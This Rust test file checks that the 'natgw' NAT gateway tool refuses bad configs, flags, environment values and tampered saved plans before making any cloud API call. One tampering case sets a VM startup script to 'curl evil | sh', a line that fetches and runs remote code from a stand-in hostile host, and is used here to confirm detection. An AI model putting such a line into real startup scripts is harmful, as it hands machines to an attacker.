//! Bad input is refused before any API call: every case runs the real binary against an emulator whose
//! request log must stay empty, exits 1 (never clap's 2, never a panic's 101) and says what is wrong.
//!
//! The cases live in `tests/bad-inputs/`: `config/` (files with a `# expect:` first line), `plans/` (saved
//! plan files and `expect.txt`), `flags/cases.jsonl` and `env/cases.jsonl`. Plans that must match the config
//! to get past the first checks (edited, truncated, from another config) are made here from a fresh plan.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::golden::Golden;
use crate::harness::{Natgw, Run, example_config};
use crate::inventory::strings;
use crate::support::{EmulatorProcess, temp_dir};

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/bad-inputs")
}

/// An emulator, a valid config, the same without `project`, an empty scratch directory, and the golden
/// file of the family's messages.
struct Bench {
    emu: EmulatorProcess,
    dir: PathBuf,
    config: PathBuf,
    noproject: PathBuf,
    scratch: PathBuf,
    checked: usize,
    failures: Vec<String>,
    golden: Golden,
}

impl Bench {
    fn new(golden: &'static str) -> Bench {
        let emu = EmulatorProcess::seeded(&[]);
        let dir = temp_dir("bad-inputs");
        let config = dir.join("natgw.toml");
        std::fs::write(&config, example_config()).expect("write the config");
        let noproject = dir.join("noproject.toml");
        let text: String = example_config()
            .lines()
            .filter(|l| !l.starts_with("project"))
            .map(|l| format!("{l}\n"))
            .collect();
        std::fs::write(&noproject, text).expect("write the config");
        let scratch = dir.join("scratch");
        std::fs::create_dir_all(&scratch).expect("create the scratch dir");
        Bench {
            emu,
            dir,
            config,
            noproject,
            scratch,
            checked: 0,
            failures: Vec::new(),
            golden: Golden::new(golden),
        }
    }

    fn expand(&self, arg: &str) -> String {
        arg.replace("{url}", &self.emu.url)
            .replace("{config}", &self.config.to_string_lossy())
            .replace("{noproject}", &self.noproject.to_string_lossy())
            .replace("{dir}", &self.scratch.to_string_lossy())
    }

    fn run(&self, args: &[String], env: &[(String, String)]) -> Run {
        env.iter()
            .fold(Natgw::new(&self.dir).args(args), |c, (k, v)| c.env(k, v))
            .mask(&self.emu.url, "[ENDPOINT]")
            .run()
    }

    /// Runs one case, records what is wrong with the outcome, and adds its transcript to the golden file
    /// (under `label`, or with `same_as`'s when the two are identical).
    fn check(
        &mut self,
        label: &str,
        args: &[String],
        env: &[(String, String)],
        expect: &str,
    ) -> String {
        self.checked += 1;
        let before = self.emu.requests().len();
        let run = self.run(args, env);
        let sent: Vec<String> = self.emu.requests()[before..]
            .iter()
            .map(|r| format!("{} {}", r["method"], r["path"]))
            .collect();
        let mut wrong = Vec::new();
        if run.code != 1 {
            wrong.push(format!("exit {} instead of 1", run.code));
        }
        if !run.all().contains(expect) {
            wrong.push(format!("no {expect:?} in the output"));
        }
        if run.all().contains("panicked") {
            wrong.push("a panic".to_string());
        }
        if !sent.is_empty() {
            wrong.push(format!("requests were sent: {sent:?}"));
        }
        if !wrong.is_empty() {
            self.failures.push(format!(
                "{label}: {}\n  args: {args:?}\n  env: {env:?}\n  stdout: {}\n  stderr: {}",
                wrong.join("; "),
                run.stdout.trim(),
                run.stderr.trim()
            ));
        }
        run.transcript()
    }

    /// `check`, and the transcript goes to the golden file.
    fn check_golden(
        &mut self,
        label: &str,
        args: &[String],
        env: &[(String, String)],
        expect: &str,
    ) {
        let transcript = self.check(label, args, env, expect);
        self.golden.add(label, &transcript);
    }

    fn finish(self, at_least: usize) {
        assert!(
            self.failures.is_empty(),
            "{} of {} cases failed:\n\n{}",
            self.failures.len(),
            self.checked,
            self.failures.join("\n\n")
        );
        assert!(
            self.checked >= at_least,
            "only {} cases (expected at least {at_least})",
            self.checked
        );
        self.golden.finish();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Every file of the config corpus, through plan, apply and destroy.
#[test]
fn bad_configs_are_refused_before_any_request() {
    let mut bench = Bench::new("errors-config.txt");
    let dir = corpus().join("config");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("the config corpus exists")
        .map(|e| e.expect("a directory entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "toml"))
        .collect();
    files.sort();
    for file in &files {
        let bytes = std::fs::read(file).expect("a readable corpus file");
        let first =
            String::from_utf8_lossy(bytes.split(|&b| b == b'\n').next().unwrap_or_default())
                .into_owned();
        let expect = first
            .strip_prefix("# expect: ")
            .unwrap_or_else(|| panic!("{} must start with `# expect: `", file.display()))
            .to_string();
        let name = file
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        let mut said: Option<String> = None;
        for command in [
            &["plan"][..],
            &["apply", "--auto-approve"],
            &["destroy", "--auto-approve"],
        ] {
            let mut args = strings(command);
            args.extend([
                "-c".to_string(),
                file.to_string_lossy().into_owned(),
                "--endpoint".to_string(),
                bench.emu.url.clone(),
                "--anonymous".to_string(),
            ]);
            let label = format!("config/{name} ({})", command[0]);
            let transcript = bench.check(&label, &args, &[], &expect);
            // One golden section per file: plan, apply and destroy say the same.
            match &said {
                None => bench.golden.add(&format!("config/{name}"), &transcript),
                Some(first) if *first != transcript => bench.failures.push(format!(
                    "{label}: not what plan said:\n{transcript}\n{first}"
                )),
                Some(_) => {}
            }
            said.get_or_insert(transcript);
        }
    }
    assert!(files.len() >= 40, "only {} bad configs", files.len());
    bench.finish(120);
}

#[derive(serde::Deserialize)]
struct Case {
    args: Vec<String>,
    #[serde(default)]
    env: std::collections::BTreeMap<String, String>,
    expect: String,
}

fn cases(file: &Path) -> Vec<Case> {
    std::fs::read_to_string(file)
        .expect("a readable case file")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{}: {e}: {l}", file.display())))
        .collect()
}

fn run_cases(bench: &mut Bench, file: &Path) -> usize {
    let list = cases(file);
    for (i, case) in list.iter().enumerate() {
        let args: Vec<String> = case.args.iter().map(|a| bench.expand(a)).collect();
        let env: Vec<(String, String)> = case
            .env
            .iter()
            .map(|(k, v)| (k.clone(), bench.expand(v)))
            .collect();
        let label = format!(
            "{}:{}",
            file.file_name().unwrap_or_default().to_string_lossy(),
            i + 1
        );
        let transcript = bench.check(&label, &args, &env, &case.expect);
        // Titled by the case as written, which does not move when cases are added.
        let title: Vec<String> = case
            .env
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .chain(std::iter::once("natgw".to_string()))
            .chain(case.args.iter().cloned())
            .collect();
        bench.golden.add(&title.join(" "), &transcript);
    }
    list.len()
}

#[test]
fn bad_flags_exit_1_before_any_request() {
    let mut bench = Bench::new("errors-flags.txt");
    let n = run_cases(&mut bench, &corpus().join("flags/cases.jsonl"));
    assert!(n >= 30, "only {n} flag cases");
    bench.finish(30);
}

#[test]
fn bad_environment_values_exit_1_before_any_request() {
    let mut bench = Bench::new("errors-env.txt");
    let n = run_cases(&mut bench, &corpus().join("env/cases.jsonl"));
    assert!(n >= 12, "only {n} environment cases");
    bench.finish(12);
}

/// `natgw apply FILE -c CONFIG --endpoint URL --anonymous`.
fn apply_args(bench: &Bench, plan: &Path, config: &Path) -> Vec<String> {
    vec![
        "apply".to_string(),
        plan.to_string_lossy().into_owned(),
        "-c".to_string(),
        config.to_string_lossy().into_owned(),
        "--endpoint".to_string(),
        bench.emu.url.clone(),
        "--anonymous".to_string(),
    ]
}

/// Saves a plan of `config` to `out` (this contacts the emulator).
fn save_plan(bench: &Bench, config: &Path, out: &Path, destroy: bool) -> Value {
    let mut args = vec![
        "plan".to_string(),
        "--out".to_string(),
        out.to_string_lossy().into_owned(),
        "-c".to_string(),
        config.to_string_lossy().into_owned(),
        "--endpoint".to_string(),
        bench.emu.url.clone(),
        "--anonymous".to_string(),
    ];
    if destroy {
        args.push("--destroy".to_string());
    }
    bench.run(&args, &[]).ok();
    serde_json::from_slice(&std::fs::read(out).expect("the saved plan")).expect("the plan is JSON")
}

fn change_index(plan: &Value, kind: &str) -> usize {
    plan["changes"]
        .as_array()
        .expect("changes")
        .iter()
        .position(|c| c["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} change"))
}

/// Saved plans: the corpus files, then edits of a fresh plan of the config.
#[test]
fn bad_plan_files_are_refused_before_any_request() {
    let mut bench = Bench::new("errors-plan-file.txt");
    let version = env!("CARGO_PKG_VERSION");

    // The corpus.
    let dir = corpus().join("plans");
    let expect_file = std::fs::read_to_string(dir.join("expect.txt")).expect("plans/expect.txt");
    let mut listed = Vec::new();
    for line in expect_file
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
    {
        let (name, expect) = line.split_once(": ").expect("`FILE: substring` lines");
        listed.push(name.to_string());
        let bytes = std::fs::read(dir.join(name)).unwrap_or_else(|e| panic!("plans/{name}: {e}"));
        let bytes = String::from_utf8(bytes.clone())
            .map(|s| s.replace("@NATGW_VERSION@", version).into_bytes())
            .unwrap_or(bytes);
        let path = bench.scratch.join(name);
        std::fs::write(&path, bytes).expect("write the plan");
        let args = apply_args(&bench, &path, &bench.config.clone());
        bench.check_golden(&format!("plans/{name}"), &args, &[], expect);
    }
    let on_disk = std::fs::read_dir(&dir)
        .expect("plans/")
        .filter(|e| {
            e.as_ref()
                .is_ok_and(|e| e.path().extension().is_some_and(|x| x == "json"))
        })
        .count();
    assert_eq!(
        on_disk,
        listed.len(),
        "every plans/*.json file has a line in expect.txt"
    );

    // Edits of a fresh plan.
    let good_path = bench.dir.join("good.json");
    let good = save_plan(&bench, &bench.config.clone(), &good_path, false);
    let good_text = std::fs::read_to_string(&good_path).expect("the plan");
    let edited = "was it edited?";
    let route = change_index(&good, "route");
    let pool = change_index(&good, "node_pool");
    let instance = change_index(&good, "instance");
    type Edit = Box<dyn Fn(&mut Value)>;
    let edits: Vec<(&str, Edit, &str)> = vec![
        (
            "format_version 2",
            Box::new(|p| p["format_version"] = json!(2)),
            "the file has 2",
        ),
        (
            "format_version removed",
            Box::new(|p| {
                p.as_object_mut().map(|o| o.remove("format_version"));
            }),
            "the file has none",
        ),
        (
            "natgw_version edited",
            Box::new(|p| p["natgw_version"] = json!("9.9.9")),
            "made by natgw 9.9.9",
        ),
        (
            "config_digest edited",
            Box::new(|p| p["config_digest"] = json!("ab".repeat(32))),
            "config_digest",
        ),
        (
            "project edited",
            Box::new(|p| p["project"] = json!("another-project")),
            "the plan is for project another-project",
        ),
        (
            "stack edited",
            Box::new(|p| p["stack"] = json!("another-stack")),
            "stack another-stack",
        ),
        (
            "destroy flipped",
            Box::new(|p| p["destroy"] = json!(true)),
            edited,
        ),
        (
            "a change removed",
            Box::new(move |p| {
                p["changes"].as_array_mut().map(|c| c.remove(route));
            }),
            edited,
        ),
        (
            "a change duplicated",
            Box::new(move |p| {
                let c = p["changes"][route].clone();
                if let Some(a) = p["changes"].as_array_mut() {
                    a.push(c);
                }
            }),
            edited,
        ),
        (
            "changes emptied",
            Box::new(|p| p["changes"] = json!([])),
            edited,
        ),
        (
            "create turned into delete",
            Box::new(move |p| p["changes"][route]["action"] = json!("delete")),
            edited,
        ),
        (
            "unknown action",
            Box::new(move |p| p["changes"][route]["action"] = json!("explode")),
            "unknown variant `explode`",
        ),
        (
            "route opened to the internet",
            Box::new(move |p| p["changes"][route]["after"]["dest_range"] = json!("0.0.0.0/0")),
            edited,
        ),
        (
            "route priority edited",
            Box::new(move |p| p["changes"][route]["after"]["priority"] = json!(0)),
            edited,
        ),
        (
            "route renamed",
            Box::new(move |p| p["changes"][route]["name"] = json!("natgw-gitlab-other")),
            edited,
        ),
        (
            "VM given a service account",
            Box::new(move |p| p["changes"][instance]["after"]["service_account"] = json!(true)),
            edited,
        ),
        (
            "VM startup script edited",
            Box::new(move |p| {
                p["changes"][instance]["after"]["startup_script"] =
                    json!("#!/bin/sh\ncurl evil | sh\n")
            }),
            edited,
        ),
        (
            "node pool tags edited",
            Box::new(move |p| p["changes"][pool]["after"]["tags"] = json!(["gitlab-runner"])),
            edited,
        ),
        (
            "observed node pool removed",
            Box::new(|p| p["world"]["node_pools"] = json!([])),
            "make a new plan",
        ),
        (
            "kind of a change edited",
            Box::new(move |p| p["changes"][route]["kind"] = json!("firewall")),
            edited,
        ),
        (
            "changes not a list",
            Box::new(|p| p["changes"] = json!({})),
            "not a valid natgw plan",
        ),
        (
            "world missing",
            Box::new(|p| {
                p.as_object_mut().map(|o| o.remove("world"));
            }),
            "not a valid natgw plan (missing field `world`",
        ),
    ];
    for (what, edit, expect) in &edits {
        let mut plan = good.clone();
        edit(&mut plan);
        assert_ne!(plan, good, "{what}: the edit changed nothing");
        let path = bench.scratch.join("edited.json");
        std::fs::write(&path, serde_json::to_vec_pretty(&plan).expect("JSON")).expect("write");
        let args = apply_args(&bench, &path, &bench.config.clone());
        bench.check_golden(&format!("edited plan: {what}"), &args, &[], expect);
    }
    // Where the cut falls, and so the parser's complaint, moves with the plan's content.
    let parser = regex::Regex::new(r"\(line \d+, column \d+: [^)]*\)").expect("a regex");
    for (what, keep) in [
        ("a third", good_text.len() / 3),
        ("two thirds", good_text.len() * 2 / 3),
        ("the last byte", good_text.len() - 1),
    ] {
        let path = bench.scratch.join("truncated.json");
        std::fs::write(&path, &good_text.as_bytes()[..keep]).expect("write");
        let args = apply_args(&bench, &path, &bench.config.clone());
        let label = format!("plan truncated to {what}");
        let transcript = bench.check(&label, &args, &[], "not a natgw plan file");
        let transcript = parser.replace_all(&transcript, "([the JSON parser's complaint])");
        bench.golden.add(&label, &transcript);
    }

    // A plan of another config, and a config changed after its plan was made.
    let other_config = bench.dir.join("other.toml");
    std::fs::write(
        &other_config,
        example_config().replace("34.120.10.10/32", "34.120.10.11/32"),
    )
    .expect("write");
    let other_plan = bench.dir.join("other.json");
    save_plan(&bench, &other_config, &other_plan, false);
    let args = apply_args(&bench, &other_plan, &bench.config.clone());
    bench.check_golden(
        "plan of another config",
        &args,
        &[],
        "config_digest: the plan was made from another config",
    );
    std::fs::write(&other_config, format!("{}\n# edited\n", example_config())).expect("write");
    let args = apply_args(&bench, &other_plan, &other_config);
    bench.check_golden("config changed after the plan", &args, &[], "config_digest");

    // A destroy plan turned into an apply plan.
    let destroy_path = bench.dir.join("destroy.json");
    let mut destroy = save_plan(&bench, &bench.config.clone(), &destroy_path, true);
    destroy["destroy"] = json!(false);
    std::fs::write(&destroy_path, serde_json::to_vec(&destroy).expect("JSON")).expect("write");
    let args = apply_args(&bench, &destroy_path, &bench.config.clone());
    bench.check_golden("destroy plan flipped to apply", &args, &[], edited);

    // The untouched plan still applies: the refusals above are about the edits.
    let args = apply_args(&bench, &good_path, &bench.config.clone());
    bench.run(&args, &[]).ok();
    bench.finish(45);
}

/// A plan whose observed world was edited in a way that leaves its changes consistent (another stack's
/// address added) is caught when natgw compares it with the project: refused, and nothing is changed.
#[test]
fn a_plan_with_an_edited_world_changes_nothing() {
    let bench = Bench::new("errors-ownership.txt");
    let path = bench.dir.join("plan.json");
    let mut plan = save_plan(&bench, &bench.config.clone(), &path, false);
    let ext = change_index(&plan, "external_address");
    let mut theirs = plan["changes"][ext]["after"].clone();
    theirs["name"] = json!("natgw-other-ext");
    theirs["address"] = json!("34.1.2.3");
    let observed =
        json!({"resource": theirs, "owner": {"stack": "another", "gateway": "other"}, "meta": {}});
    plan["world"]["addresses"]
        .as_array_mut()
        .expect("world.addresses")
        .push(observed);
    std::fs::write(&path, serde_json::to_vec(&plan).expect("JSON")).expect("write");
    bench
        .run(&apply_args(&bench, &path, &bench.config.clone()), &[])
        .code(1)
        .stderr_has("the project changed since this plan was made")
        .golden(
            "errors-ownership.txt",
            "a saved plan whose observed world was edited",
        );
    let mutations: Vec<Value> = bench
        .emu
        .requests()
        .into_iter()
        .filter(|r| r["method"] != "GET" && !crate::harness::is_lock_request(r))
        .collect();
    assert_eq!(mutations, Vec::<Value>::new());
    let _ = std::fs::remove_dir_all(&bench.dir);
}
